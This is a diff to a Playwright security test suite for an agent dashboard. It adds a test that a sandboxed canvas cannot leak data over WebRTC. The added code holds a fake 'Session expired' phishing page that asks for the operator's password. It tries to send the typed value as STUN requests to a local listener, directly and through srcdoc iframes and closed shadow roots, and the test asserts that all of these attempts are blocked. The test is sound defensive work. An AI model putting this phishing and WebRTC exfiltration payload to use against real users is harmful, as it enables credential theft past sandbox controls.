@@ -1,10 +1,13 @@
 // Agent canvases are hostile HTML. In the real browser: a canvas presented while its agent's
 // page is open appears without a reload; an attack corpus (cookies, the parent's DOM, top
 // navigation, the API, form posts to dashboard routes, meta refresh, popups, javascript:
-// links) reaches nothing of the dashboard; an honest interactive canvas (a counter, a drawn
+// links) reaches nothing of the dashboard; WebRTC sends nothing out (issue 41's phishing
+// canvas that sent what the operator typed as STUN requests, directly, from a frame made
+// inside it, or from a closed shadow root); an honest interactive canvas (a counter, a drawn
 // chart) still works. Runs after dashboard.spec.ts (files run in name order) and signs in as
 // its operator, or sets one up when run alone. The screenshot of the canvas page is the README's.
 import { test, expect, Page, Frame } from '@playwright/test';
+import * as dgram from 'dgram';
 import { signIn } from './operator';
 
 const shots = '../docs/screenshots';
@@ -113,6 +116,59 @@ test('the attack corpus reaches nothing of the dashboard', async () => {
   expect(popups).toEqual([]);
   const types = await (await page.request.get('/api/templates', api)).json();
   expect(types.map((t: { name: string }) => t.name)).not.toContain('pwned-by-form');
+});
+
+/** A canvas that asks for the operator's password and sends what is typed to a STUN server
+ * on `port`: from its own window, then from frames it makes (in the page and in a closed
+ * shadow root), which would get WebRTC afresh. */
+function stunAttack(port: number): string {
+  const offer = `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
+    pc.createDataChannel(document.title || 'typed-by-the-operator');
+    pc.createOffer().then((o) => pc.setLocalDescription(o));`;
+  return `<!doctype html><meta charset="utf-8"><title>Session expired</title>
+<p>Your session expired. Re-enter your operator password: <input id="pw" value="typed-by-the-operator"></p>
+<pre id="log"></pre>
+<script>
+  const log = (k, v) => { document.getElementById('log').textContent += k + '=' + v + '\\n'; };
+  const attempt = (k, f) => { try { f(); log(k, 'ran'); } catch (e) { log(k, 'blocked:' + e.name); } };
+  const offer = ${JSON.stringify(offer)};
+  attempt('direct', () => { ${offer} });
+  attempt('webkit', () => new webkitRTCPeerConnection({ iceServers: [] }));
+  attempt('srcdoc', () => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + offer + '<\\/script>'; document.body.append(f); });
+  attempt('markup', () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>' + offer.replace(/"/g, '&quot;') + '<\\/script>"></iframe>'));
+  attempt('shadow', () => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
+    root.innerHTML = '<iframe srcdoc="<script>' + offer.replace(/"/g, '&quot;') + '<\\/script>"></iframe>'; });
+  attempt('declarative', () => document.body.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe></iframe></template></div>'));
+  setTimeout(() => { log('frames', document.querySelectorAll('iframe').length); log('done', 'yes'); }, 500);
+</script>
+<div><template shadowrootmode="closed"><iframe srcdoc="<script>${offer.replace(/"/g, '&quot;')}</script>"></iframe></template></div>`;
+}
+
+test('a canvas sends nothing out through WebRTC, from itself or from a frame it makes', async () => {
+  const stun = dgram.createSocket('udp4');
+  let received = 0;
+  stun.on('message', () => { received += 1; });
+  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
+  const port = stun.address().port;
+  // The listener counts what reaches it (so a 0 below means nothing was sent).
+  const probe = dgram.createSocket('udp4');
+  await new Promise<void>((resolve) => probe.send('probe', port, '127.0.0.1', () => resolve()));
+  await expect.poll(() => received).toBe(1);
+  probe.close();
+  received = 0;
+
+  await page.goto(`/agents/${artist}`);
+  const version = await present(stunAttack(port), 'Session expired');
+  const frame = await canvasFrame(version);
+  await expect(frame.locator('#log')).toContainText('done=yes');
+  const log = await frame.locator('#log').textContent();
+  expect(log).toContain('direct=blocked:TypeError');
+  expect(log).toContain('webkit=blocked:TypeError');
+  expect(log).toContain('declarative=blocked:NotSupportedError');
+  expect(log).toContain('frames=0');
+  await page.waitForTimeout(3000); // ICE gathering sends its first STUN request within a second
+  stun.close();
+  expect(received).toBe(0);
 });
 
 test('a meta refresh cannot take the frame to a dashboard page', async () => {
